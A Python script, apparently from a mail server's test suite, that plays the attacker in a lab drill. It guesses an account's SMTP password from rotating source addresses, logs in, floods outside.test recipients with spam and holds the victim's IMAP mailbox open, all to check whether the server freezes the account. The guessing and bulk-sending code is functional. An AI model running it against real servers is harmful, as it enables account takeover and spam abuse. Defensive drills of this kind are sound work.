"""The attacker of a drill: logs in with the password of an account, or guesses it, and sends.

Standard input is a job: the fields of mailkeep.drills.attacks.Attack, with `host`, `host6`, `login`, `guesses`,
`sources` and `to`. Standard output is a JSON object a line: what was tried, when, and the server's answer. Ends after
the job's tries or seconds, or some seconds after the account was found frozen. Standard library only: it runs on the
lab's attacker.
"""

import contextlib
import imaplib
import itertools
import json
import smtplib
import ssl
import sys
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from email.message import EmailMessage
from email.policy import SMTP
from typing import Any

ANSWER_TIMEOUT = 5.0
"""Seconds; a banned client gets no answer at all."""
CLOSED = ("421", "521", "dropped")
"""Beginnings of answers after which the connection is closed."""
READ_INTERVAL = 0.2


def unverified_context() -> ssl.SSLContext:
    """An attacker accepts any certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


class RefusedError(Exception):
    """The message is the server's answer."""


def require_code(answer: tuple[int, bytes], code: int = 250) -> None:
    """Raises RefusedError unless the answer is of the same class as `code`."""
    if answer[0] // 100 != code // 100:
        raise RefusedError(f"{answer[0]} {answer[1].decode(errors='replace')}")


def answer_of(action: Callable[[], str]) -> str:
    """The server's answer to `action`; "dropped: …" when there was none."""
    try:
        return action()
    except RefusedError as error:
        return str(error)
    except smtplib.SMTPResponseException as error:
        text = error.smtp_error
        return f"{error.smtp_code} {text.decode(errors='replace') if isinstance(text, bytes) else text}"
    except imaplib.IMAP4.error as error:
        return f"dropped: {error}"
    except (OSError, EOFError, smtplib.SMTPException) as error:
        return f"dropped: {error!r}"


class AttackRun:
    def __init__(self, job: dict[str, Any]) -> None:
        self.job = job
        self.numbers = itertools.count()
        self.sources = itertools.cycle(job["sources"])
        self.began = self.ends = 0.0
        self.lock = threading.Lock()

    def print_event(self, kind: str, at: float, answer: str, **details: Any) -> None:
        with self.lock:
            print(json.dumps({"kind": kind, "at": at, "until": time.time(), "answer": answer} | details), flush=True)

    def run(self) -> None:
        self.guess_passwords()
        self.began = time.time()
        self.ends = self.began + self.job["seconds"]
        mailbox = self.open_mailbox()
        reader = threading.Thread(target=self.read_mailbox, args=(mailbox,), daemon=True)
        reader.start()
        if self.job["probe"]:
            self.run_session(probe=True)
        self.began = time.time()
        workers = [threading.Thread(target=self.run_sessions, daemon=True) for _ in range(self.job["workers"])]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()
        self.ends = 0.0
        reader.join()

    def run_sessions(self) -> None:
        while time.time() < self.ends and self.run_session():
            pass

    # --- guessing ---------------------------------------------------------------------------------------------------

    def guess_passwords(self) -> None:
        """Each guess from the next source, all sources at the same time. The right password comes later."""
        guesses = list(zip(self.job["guesses"], self.sources, strict=False))
        if guesses:
            with ThreadPoolExecutor(len(self.job["sources"])) as pool:
                list(pool.map(lambda guess: self.guess_password(*guess), guesses))

    def guess_password(self, password: str, source: str) -> None:
        at = time.time()

        def try_login() -> str:
            with self.connect(source) as smtp:
                return self.log_in(smtp, password)

        self.print_event("guess", at, answer_of(try_login), source=source)

    # --- sending ----------------------------------------------------------------------------------------------------

    def connect(self, source: str) -> smtplib.SMTP:
        host = self.job["host6"] if ":" in source else self.job["host"]
        bind_to = (source, 0) if source else None
        smtp = smtplib.SMTP(host, 587, "[192.0.2.1]", timeout=ANSWER_TIMEOUT, source_address=bind_to)
        smtp.starttls(context=unverified_context())
        smtp.ehlo()
        return smtp

    def log_in(self, smtp: smtplib.SMTP, password: str) -> str:
        smtp.user, smtp.password = self.job["login"][0], password
        code, text = smtp.auth("PLAIN", smtp.auth_plain)
        return f"{code} {text.decode(errors='replace')}"

    def run_session(self, probe: bool = False) -> bool:
        """Send over a connection for as long as it lasts. Returns False when no tries are left."""
        if (number := self.wait_for_turn()) is None:
            return False
        source, at = next(self.sources), time.time()
        connections: list[smtplib.SMTP] = []

        def connect_and_log_in() -> str:
            connections.append(self.connect(source))
            return self.log_in(connections[0], self.job["login"][1])

        answer = answer_of(connect_and_log_in)
        if not answer.startswith("235"):
            self.record_try(at, answer, source, 0)
        while answer.startswith("235") and number is not None:
            at = time.time()
            reply, recipients = self.send_message(connections[0], number)
            self.record_try(at, reply, source, recipients)
            if probe or self.job["fresh"] or reply.startswith(CLOSED):
                break
            number = self.wait_for_turn()
        with contextlib.suppress(OSError, smtplib.SMTPException, IndexError):
            connections[0].close()
        return True

    def wait_for_turn(self) -> int | None:
        """The number of the next try, when it is due; None when there are no more."""
        number = next(self.numbers)
        due = self.began + number / self.job["pace"]
        if number >= self.job["tries"] or max(due, time.time()) > self.ends:
            return None
        time.sleep(max(due - time.time(), 0))
        return number if time.time() < self.ends else None

    def send_message(self, smtp: smtplib.SMTP, number: int) -> tuple[str, int]:
        """The last answer, and the number of recipients of the message.

        When a recipient is refused, the message goes to those accepted before.
        """
        user = self.job["login"][0]
        accepted: list[str] = []
        is_taken = False

        def run_transaction() -> str:
            nonlocal is_taken
            smtp.rset()
            require_code(smtp.mail(self.job["envelope"] or user))
            refusal = None
            for recipient in self.make_recipients(number):
                try:
                    require_code(smtp.rcpt(recipient))
                    accepted.append(recipient)
                except RefusedError as error:
                    refusal = error
                    break
            if refusal and (not accepted or str(refusal).startswith(CLOSED)):
                raise refusal
            require_code(smtp.data(make_message(self.job["author"] or user, number)))
            is_taken = True
            if refusal:
                raise refusal
            return "250"

        answer = answer_of(run_transaction)
        return answer, len(accepted) if is_taken else 0

    def make_recipients(self, number: int) -> list[str]:
        """New recipients for each message. Every fourth has a recipient whose server answers "later", as most did in
        the incidents."""
        if self.job["to"]:
            return [self.job["to"]]
        victims = [f"victim-{number}-{index}@outside.test" for index in range(self.job["recipients"])]
        return ["defer@outside.test", *victims[1:]] if number % 4 == 1 else victims

    def record_try(self, at: float, answer: str, source: str, recipients: int) -> None:
        self.print_event("try", at, answer, source=source, recipients=recipients)
        if "frozen" in answer or answer.startswith("535"):
            self.ends = min(self.ends, time.time() + self.job["after"])

    # --- reading ----------------------------------------------------------------------------------------------------

    def open_mailbox(self) -> imaplib.IMAP4:
        context = unverified_context()
        mailbox = imaplib.IMAP4_SSL(self.job["host"], 993, ssl_context=context, timeout=ANSWER_TIMEOUT)
        mailbox.login(*self.job["login"])
        return mailbox

    def read_mailbox(self, mailbox: imaplib.IMAP4) -> None:
        """Keep the victim's mailbox open until it is cut; then try to log in again."""
        answer = "OK"
        while answer == "OK" and time.time() < self.ends:
            answer = answer_of(lambda: str(mailbox.noop()[0]))
            time.sleep(READ_INTERVAL)
        self.print_event("mailbox", time.time(), "open" if answer == "OK" else "cut")
        self.print_event("return", time.time(), answer_of(lambda: str(self.open_mailbox().noop()[0])))


def make_message(author: str, number: int) -> bytes:
    message = EmailMessage(policy=SMTP)
    message["From"], message["To"] = author, "undisclosed-recipients:;"
    message["Subject"] = f"Drill: spam {number}"
    message.set_content("You have won. This is a drill of a mail server; nobody has won anything.\n")
    return message.as_bytes()


if __name__ == "__main__":
    AttackRun(json.load(sys.stdin)).run()
